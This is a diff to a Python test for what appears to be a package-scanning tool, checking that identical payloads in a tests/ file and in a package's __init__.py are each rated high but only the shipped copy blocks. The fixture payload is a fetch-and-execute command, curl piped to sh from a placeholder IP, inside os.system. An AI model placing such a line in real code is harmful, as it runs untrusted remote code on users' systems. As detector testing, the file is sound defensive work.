@@ -64,17 +64,18 @@ def test_parallel_analysis_gives_the_same_report(tmp_path: Path) -> None:
 
 
 def test_a_copy_under_tests_does_not_lend_its_verdict_to_the_library(tmp_path: Path) -> None:
-    """The same bytes under tests/ (at most medium: not shipped code) and in the package
-    (high): each location is judged on its own, whatever comes first in the walk."""
+    """The same bytes under tests/ (test context: reported, not blocking) and in the package
+    (shipped): each location is judged on its own, whatever comes first in the walk."""
     payload = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"
     members = {"pkg-1.0/tests/a_boot.py": payload, "pkg-1.0/pkg/__init__.py": payload}
     target = write(tmp_path / "pkg-1.0.tar", tar_bytes(members))
     for jobs in (1, 2):
         report = run_exam(target, replace(Config(), jobs=jobs))
-        worst = {}
+        contexts = {}
         for finding in report.findings:
             if finding.location is not None and finding.kind.value in ("behavior", "malicious"):
-                path = finding.location.path
-                worst[path] = max(worst.get(path, 0), finding.severity.rank)
-        assert worst["pkg-1.0/pkg/__init__.py"] >= Severity.HIGH.rank
-        assert worst["pkg-1.0/tests/a_boot.py"] <= Severity.MEDIUM.rank
+                assert finding.severity.rank >= Severity.HIGH.rank
+                contexts[finding.location.path] = finding.context
+        assert contexts == {"pkg-1.0/pkg/__init__.py": "shipped", "pkg-1.0/tests/a_boot.py": "test"}
+        blocked = " ".join(v.message for v in report.verdict.violations)
+        assert "pkg/__init__.py" in blocked and "a_boot.py" not in blocked
